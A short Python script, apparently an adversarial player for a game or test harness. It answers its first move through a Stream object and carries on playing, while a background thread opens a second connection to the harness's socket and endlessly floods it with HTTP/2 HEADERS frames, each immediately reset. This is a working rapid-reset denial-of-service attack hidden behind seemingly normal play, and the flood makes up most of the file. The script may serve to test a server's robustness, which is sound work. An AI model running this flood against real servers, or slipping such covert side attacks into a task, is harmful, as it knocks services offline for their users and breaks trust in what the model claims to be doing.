"""Play well, and talk nonsense on a second connection as fast as that goes."""

import contextlib
import os
import socket
import threading

from stream import Stream

# HTTP/2: the client's preface, its settings, and then for ever the headers of a new stream and its
# reset, each of which a server has to take note of.
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
HEADERS = bytes([0x83, 0x86, 0x44, 0x01, 0x2F, 0x41, 0x01, 0x78])  # POST http / x


def opened_and_reset(number: int) -> bytes:
    stream = number.to_bytes(4, "big")
    headers = len(HEADERS).to_bytes(3, "big") + b"\x01\x04" + stream + HEADERS
    return headers + bytes([0, 0, 4, 3, 0]) + stream + bytes([0, 0, 0, 8])


def flood() -> None:
    with contextlib.suppress(OSError):
        line = socket.socket(socket.AF_UNIX)
        line.connect(os.environ["ROUNDHOUSE_SOCKET"])
        line.sendall(PREFACE)
        number = 1
        while True:
            line.sendall(b"".join(opened_and_reset(number + 2 * k) for k in range(500)))
            number += 1000


stream = Stream()
stream.answer(stream.next_decision())
threading.Thread(target=flood, daemon=True).start()
stream.play_on()
